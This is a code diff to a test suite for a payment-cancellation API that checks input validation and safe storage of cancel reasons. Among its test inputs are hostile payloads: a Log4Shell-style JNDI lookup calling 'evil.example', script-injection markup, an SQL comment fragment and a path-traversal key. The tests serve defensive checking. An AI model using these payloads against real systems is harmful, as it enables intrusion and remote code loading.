@@ -3,6 +3,7 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { sendRaw } from '../../harness/raw-http.ts'
+import { assertEach } from '../support/each.ts'
 import { type Code, type HostileRow, hostileTests, hostileWorld, written } from '../support/hostile.ts'
 import { movements, orderInState, spend } from '../support/service/orders.ts'
 import type { TestCustomer } from '../support/service/service.ts'
@@ -27,9 +28,20 @@ function rowOf(what: string, code: Code, fields: Record<string, string>): Hostil
   }
 }
 
+const rules = {
+  paymentKey: 'must be 1 to 200 visible ASCII characters',
+  reason: 'must be 1 to 200 characters, not blank, without control characters',
+}
+/** The answer names the field and its rule. */
+const namedRow = (what: string, field: keyof typeof rules, json: string): HostileRow => ({
+  ...rowOf(what, 'VAL003', { [field]: json }),
+  also: ({ body }) => assert.deepEqual(body.metadata, { fields: [{ field, rule: rules[field] }] }),
+})
+
 const wrongReasons: [what: string, json: string][] = [
   ['that is empty', '""'],
-  ['of whitespace', '" \\t\\r\\n\\u00a0\\u3000"'],
+  ['that is a blank', '" "'],
+  ['of whitespace', '" \\t\\r\\n\\u00a0\\u2003\\u3000\\ufeff"'],
   ['of 201 characters', JSON.stringify('r'.repeat(201))],
   ['of 201 emoji', JSON.stringify('\u{1f4b3}'.repeat(201))],
   ['with NUL', '"a\\u0000b"'],
@@ -39,6 +51,7 @@ const wrongReasons: [what: string, json: string][] = [
   ['with DEL', '"a\\u007fb"'],
   ['with a control character of Latin-1', '"a\\u0085b"'],
   ['with half a surrogate pair', '"a\\ud800"'],
+  ['with the other half of a surrogate pair', '"a\\udc00"'],
   ['with a surrogate pair in the wrong order', '"\\udc00\\ud800"'],
   ['that is a number', '1'],
   ['that is true', 'true'],
@@ -50,11 +63,12 @@ hostileTests(world, [
     rowOf(`a cancel without ${field}`, 'VAL002', { [field]: '' }),
     rowOf(`a cancel with ${field} null`, 'VAL002', { [field]: 'null' }),
   ]),
-  ...wrongReasons.map(([what, json]) => rowOf(`a reason ${what}`, 'VAL003', { reason: json })),
-  ...['""', '"a b"', '"a\\r\\nb"', '"a\\u0000"', '"\\ud0a4"', '1', '[]', '{}', '".."'].map((json) =>
-    rowOf(`a cancel with paymentKey ${json}`, 'VAL003', { paymentKey: json }),
+  ...wrongReasons.map(([what, json]) => namedRow(`a reason ${what}`, 'reason', json)),
+  ...['""', '"a b"', '"a\\r\\nb"', '"a\\u0000"', '"\\ud0a4"', '1', '[]', '["key"]', '{}'].map((json) =>
+    namedRow(`a cancel with paymentKey ${json}`, 'paymentKey', json),
   ),
-  rowOf('a cancel with a paymentKey of 201 characters', 'VAL003', { paymentKey: JSON.stringify('k'.repeat(201)) }),
+  namedRow('a cancel with a paymentKey of 201 characters', 'paymentKey', JSON.stringify('k'.repeat(201))),
+  rowOf('a cancel with paymentKey ".."', 'VAL003', { paymentKey: '".."' }),
   ...['pay_unknown', '../../v1/x', "';--", '*', '%', 'k'.repeat(200)].map((key) =>
     rowOf(`a cancel of the unknown payment ${key.slice(0, 20)}`, 'NOT000', { paymentKey: JSON.stringify(key) }),
   ),
@@ -113,7 +127,10 @@ test('a cancelAmount of 1 changes nothing: the whole payment is cancelled', asyn
 })
 
 const reasons: [what: string, reason: string][] = [
+  ['of one character', '\uac12'],
   ['of 200 characters', 'r'.repeat(200)],
+  ['of 200 Hangul syllables', '\uac12'.repeat(200)],
+  ['of line breaks and tabs', 'first\nsecond\r\n\tthird'],
   ['of 200 emoji', '\u{1f4b3}'.repeat(200)],
   ['that is markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
   ['with a lookup expression for a logger', `$\{jndi:ldap://evil.example/a}`],
@@ -137,10 +154,7 @@ for (const [what, reason] of reasons) {
     assert.equal(done.body.code, 'SUCCESS', done.text)
     const [payment] = await world.service.sandbox.paymentsOf(orderId)
     const cancels = payment?.cancels as { cancelReason: string }[] | undefined
-    assert.deepEqual(
-      cancels?.map(({ cancelReason }) => cancelReason),
-      [reason],
-    )
+    assertEach(cancels, ({ cancelReason }) => cancelReason, [reason])
     const again = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
     assert.deepEqual([again.body.code, again.body.metadata], ['PAYMENT_CANCEL_FAILED', { paymentKey, reason }])
     const text = logged.slice(lines).join('')
